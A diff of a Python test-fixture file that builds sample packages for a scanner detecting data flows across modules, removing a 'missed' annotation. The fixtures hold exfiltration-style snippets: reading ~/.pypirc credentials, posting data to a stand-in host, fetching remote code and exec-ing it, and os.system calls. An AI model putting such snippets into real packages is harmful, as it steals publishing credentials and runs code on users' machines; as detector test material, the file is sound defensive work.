@@ -14,7 +14,6 @@ def _two(title: str, reader: str, sender: str, entry: str, **more: str) -> Speci
     return npm("flows across files", title, entry, files)
 
 
-_LATER = "that a call makes another module's code run sooner is not followed: the flow is found, and weighs less"
 _PY_READ = "import os\n"
 _PY_SECRET = "open(os.path.expanduser('~/.pypirc')).read()"
 _PY_SEND = "urllib.request.urlopen('https://collect.invalid/in', data=data)"
@@ -22,10 +21,10 @@ _PY_NET = f"import urllib.request\n\n\ndef send(data):\n    {_PY_SEND}\n"
 _PY_TOKEN = f"{_PY_READ}\n\ndef token():\n    return {_PY_SECRET}\n"
 
 
-def _both(title: str, reader: str, sender: str, entry: str, *, missed: str = "", **more: str) -> Specimen:
+def _both(title: str, reader: str, sender: str, entry: str, **more: str) -> Specimen:
     """Return a specimen of a package that reads in one module, sends in another, and brings them together."""
     files = {"pad/read.py": reader, "pad/net.py": sender, **{f"pad/{name}.py": text for name, text in more.items()}}
-    return pypi("flows across modules", title, entry, files, missed=missed)
+    return pypi("flows across modules", title, entry, files)
 
 
 MODULES: tuple[Specimen, ...] = (
@@ -87,7 +86,6 @@ MODULES: tuple[Specimen, ...] = (
             "    return urllib.request.urlopen('https://stage.invalid/x').read()\n",
             "pad/run.py": "from .get import get\n\n\ndef go():\n    exec(get())\n",
         },
-        missed=_LATER,
     ),
     pypi(
         "flows across modules",
@@ -122,7 +120,6 @@ MODULES: tuple[Specimen, ...] = (
         "a function of another module does it all",
         "from .run import go\ngo()\n",
         {"pad/run.py": f"import os\n\n\ndef go():\n    os.system('{COMMAND}')\n"},
-        missed=_LATER,
     ),
 )
 
